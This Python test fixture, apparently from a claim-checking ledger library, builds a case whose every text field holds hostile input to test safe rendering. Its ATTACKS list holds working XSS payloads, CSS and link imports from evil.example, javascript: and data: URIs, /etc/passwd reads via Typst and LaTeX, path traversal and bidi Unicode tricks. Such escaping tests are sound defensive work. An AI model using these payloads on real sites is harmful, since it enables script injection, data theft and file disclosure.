"""A case in which every text of every record wants to be more than text: markup, scripts, styles, marks that turn."""

from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Final

from attrs import AttrsInstance, evolve, fields

from claimcheck.ledger import Ledger
from claimcheck.model import (
    Appearance,
    Assessment,
    Category,
    Claim,
    Derivation,
    Event,
    Link,
    Measure,
    Part,
    Party,
    Proposition,
    Record,
    Relation,
    Retraction,
    Sense,
    Source,
    Term,
    Tie,
)
from claimcheck.quantity import Quantity
from claimcheck.times import TimeSpan, time_span

__all__ = ["ATTACKS", "hostile_case", "text_fields"]

ATTACKS: Final = (
    "<script>window.struck=1;alert(1)</script>",
    "</style><script>window.struck=2</script><style>",
    "</script></title></textarea></noscript></svg></math><script>window.struck=3</script>",
    "}}*{display:none!important} @import 'https://evil.example/a.css'; body{background:url(https://evil.example/b.png)}",
    "\"'><img src=x onerror=window.struck=4>",
    "' onmouseover='window.struck=5' autofocus onfocus='window.struck=5' x='",
    "<svg/onload=window.struck=6><animate onbegin=window.struck=6 attributeName=x dur=1s>",
    "<svg><style>@import url(https://evil.example/c.css)</style><use href='https://evil.example/d.svg#x'/></svg>",
    "<!-- --><iframe srcdoc='<script>parent.struck=7</script>'></iframe><!--",
    "--> ]]> <![CDATA[ <?php ?> <%= 7 %> {{ 7 * 7 }} {% raw %} ${7*7} #{7}",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/e.css><form action=https://evil.example><input autofocus>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.struck=8>",
    "javascript:window.struck=9",
    "jav\tascript:window.struck=9",
    "data:text/html,<script>window.struck=10</script>",
    "&lt;script&gt;window.struck=11&lt;/script&gt; &#60;script&#62; &amp;amp; &NewLine;",
    "[click](javascript:window.struck=12) ![picture](https://evil.example/f.png) <https://evil.example/auto>",
    '<style>*{position:fixed;inset:0}</style><div style="position:fixed;inset:0;z-index:9">',
    '#import "@preview/evil:1.0.0" #read("/etc/passwd") $ #eval("1") $ \\input{/etc/passwd}',
    "turned \u202eotni\u202c and \u2066isolated\u2069 and \u200fmarked \u061c \u2067unclosed \u202d",
    "zero\u200bwidth\u200c\u200d and \ufeff mark and \U000e0041 tag \u00ad \u2060",
    "separators \u2028 \u2029 \ufffe \ue000 \ufff9 \u3164 end",
    "one\ntwo\r\nthree\ttab",
    "long" * 75,
    "вражда" * 50 + " " + "敵" * 100,
    "Z\u0351\u036b\u0343a\u0321\u034a\u0353l\u0356\u033b\u0359g\u0337\u033do" * 4,
    "ﷺ قُتل ٤٧١ עברית \u200f 471 (5) [6] <7>",
    "../../etc/passwd",
    "https://evil.example/\"onclick=window.struck=13//'><script>window.struck=13</script>",
    "#claims",
    " constructor __proto__ toString ",
)
"""Each is harmless as text. Where one runs, it sets ``window.struck``, opens a dialog, or asks evil.example."""


def hostile_case(folder: Path, attacks: Sequence[str] = ATTACKS) -> Ledger:
    """Return a ledger whose every text is an attack, with the files of its sources in *folder*.

    Each attack comes in every field: in one set of parties, sources, events, words and claims, of which some are
    contested, some reported differently, some hang together, and some stand for fusion to weigh.
    """
    ledger = Ledger(case=attacks[0])
    ledger.folder = folder
    for number, attack in enumerate(attacks):
        (folder / f"kept{number}.txt").write_text(f"{attack} 471 {attack} 5 were there {attack}", encoding="utf-8")
        ledger.add(*_records(number, attack))
    return ledger


def text_fields(record: AttrsInstance) -> Iterator[tuple[str, str]]:
    """Yield every text within a record, and within what it holds, with the field it stands in."""
    for one in fields(type(record)):
        if not one.name.startswith("_"):
            yield from _texts(f"{type(record).__name__}.{one.name}", getattr(record, one.name))


def _texts(name: str, value: object) -> Iterator[tuple[str, str]]:
    if type(value) is str:
        yield name, value
    elif isinstance(value, (tuple, frozenset)):
        for item in value:
            yield from _texts(name, item)
    elif isinstance(value, (Tie, Derivation, Sense, Category, Part, Proposition, Appearance, Quantity, TimeSpan)):
        yield from text_fields(value)


def _records(number: int, attack: str) -> Iterator[Record]:
    first, second = f"one {number} {attack}", f"two {number} {attack}"
    day = time_span("2025-06-02")
    yield Party(key=f"power {first}", name=f"power {attack}", kind=attack, aliases=(attack,), note=attack)
    for key in (first, second):
        ties = (Tie(party=f"power {first}", since=day),) if key == first else ()
        yield Party(
            key=key, name=f"{key[:3]} {attack}", kind=attack, acts_for=ties, aliases=(f"{key} too",), note=attack
        )
    yield Party(key=f"part {first}", name=attack, part_of=(first,), same_as=(f"same {first}",))
    yield Party(key=f"same {first}", name=attack)
    yield Term(name=f"word {first}", aliases=(f"alias {attack}{number}",), definition=attack)
    sense = Sense(by=first, word=attack, means="killed", since=day)
    yield Measure(
        name=f"measured {first}", scale="count", aliases=(f"gauge {first}",), definition=attack, senses=(sense,)
    )
    for key in ("kept", "copy"):
        yield Source(
            key=f"{key} {first}",
            name=f"{key} {attack}",
            publisher=first if key == "kept" else second,
            url=attack if key == "kept" else f"https://example.org/{attack}",
            archived=f"https://archive.example/{attack}",
            digest=attack,
            file=f"kept{number}.txt" if key == "kept" else attack,
            published=day,
            retrieved=day,
            language=attack,
            derives_from=(Derivation(source=f"kept {first}", relation=Relation.TRANSLATES),) if key == "copy" else (),
            note=attack,
        )
    yield Event(key=f"whole {first}", label=f"whole {attack}")
    yield Event(
        key=first, label=attack, occurred=day, place=attack, subject=attack, part_of=f"whole {first}", note=attack
    )
    proposition = Proposition(
        event=first, agent=attack, operator=attack, subject=attack, measure="killed", baseline=attack,
        place=attack, scope=attack, parts=(Part(of=attack, quantity=Quantity(low=3, high=3)),),
    )  # fmt: skip
    for name, value, by in (
        ("exact", Quantity(low=471, high=471, text=f"471 {attack}"), first),
        ("other", Quantity(low=5, high=5, text="5"), second),
        ("third", Quantity(low=90, high=90), f"part {first}"),
        ("unit", Quantity(low=7, high=7, unit=attack), second),
        ("word", Category(term=attack), first),
        ("gone", Quantity(low=6, high=6), second),
    ):
        yield Claim(
            key=f"{name} {first}",
            text=f"{name}: {attack}",
            claimants=(by,) if name != "third" else (),
            act=attack,
            asserted=day,
            proposition=evolve(proposition, value=value, parts=proposition.parts if name == "exact" else (),
                               measure=attack if name in {"unit", "word"} else f"measured {first}"),
            appearances=tuple(
                Appearance(source=f"{key} {first}", quote=f"{attack} {value} {key}", prefix=attack, suffix=attack,
                           language=attack, translation=attack)
                for key in ("kept", "copy")
            ),
            inferred=frozenset({"measure"}),
            private=(("witness", "the secret name"),),
            note=attack,
        )  # fmt: skip
    for topic in range(3):  # for fusion: topics of which several voices say a value
        yield Event(key=f"raid {topic} {first}", label=f"raid {topic} {attack}")
        for by, killed in ((first, 5), (second, 5), (f"part {first}", 8)):
            yield Claim(key=f"fused {topic} {by}", claimants=(by,), proposition=Proposition(
                event=f"raid {topic} {first}", measure="killed", value=Quantity(low=killed, high=killed)))  # fmt: skip
    yield Link(a=f"exact {first}", relation=Relation.REFUTES, b=f"other {first}", by=second, basis=attack)
    yield Link(
        a=f"other {first}", relation=Relation.SUPPORTS, b=f"word {first}", by=attack, basis=attack, accepted=False
    )
    for who in (first, second):
        yield Assessment(about=f"exact {first}", scheme="airwars" if who == first else attack,
                         grade="weak" if who == first else attack, axis=None if who == first else attack,
                         by=who, when=day, why=attack)  # fmt: skip
    yield Retraction(target=f"gone {first}", by=second, when=day)
